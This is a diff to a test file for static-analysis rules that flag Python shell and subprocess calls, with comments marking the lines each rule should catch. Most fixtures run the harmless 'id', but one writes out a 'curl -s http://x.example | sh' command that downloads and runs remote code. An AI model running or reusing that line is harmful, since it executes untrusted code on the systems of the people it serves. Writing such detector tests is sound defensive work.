@@ -157,19 +157,31 @@ importlib.reload(os).system("id")
 # ruleid: shell-command, process-partial-path
 typing.cast(object, os).system("id")
 
-# a process function handed to a callback with a shell command line
+# a process function handed to a callback with a shell command line (the
+# rules that read arguments see the call it makes later)
 import weakref
 import atexit
-# ruleid: shell-argv-callback, subprocess-call
+# ruleid: shell-argv-callback, subprocess-call, shell-in-argv, process-partial-path, process-partial-path-list
 weakref.finalize(holder, __import__("subprocess").call, ["sh", "-c", "id"])
 later = ["/bin/bash", "-c", "curl -s http://x.example | sh"]
-# ruleid: shell-argv-callback, subprocess-call
+# ruleid: shell-argv-callback, subprocess-call, shell-in-argv
 atexit.register(sp.Popen, later)
-# ruleid: shell-argv-callback, subprocess-call
+# ruleid: shell-argv-callback, subprocess-call, shell-in-argv, process-partial-path-list
 pool.submit(subprocess.check_output, ("python3", "-c", payload))
 # ok: shell-argv-callback
-# ruleid: subprocess-call
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
 pool.submit(subprocess.run, ["git", "status"], check=True)
+import functools
+import threading
+# ruleid: shell-command, process-partial-path
+threading.Timer(1.0, os.system, args=("id",)).start()
+# ruleid: shell-command, process-partial-path
+threading.Thread(target=os.system, args=["id"]).start()
+# ruleid: shell-command, process-partial-path
+functools.partial(os.system, "id")()
+# the reference itself is still a finding (os.system escapes)
+# ruleid: shell-command, process-partial-path
+atexit.register(os.system, "clear")
 # ok: shell-argv-callback
 pool.submit(render, ["sh", "-c", "echo"])
 
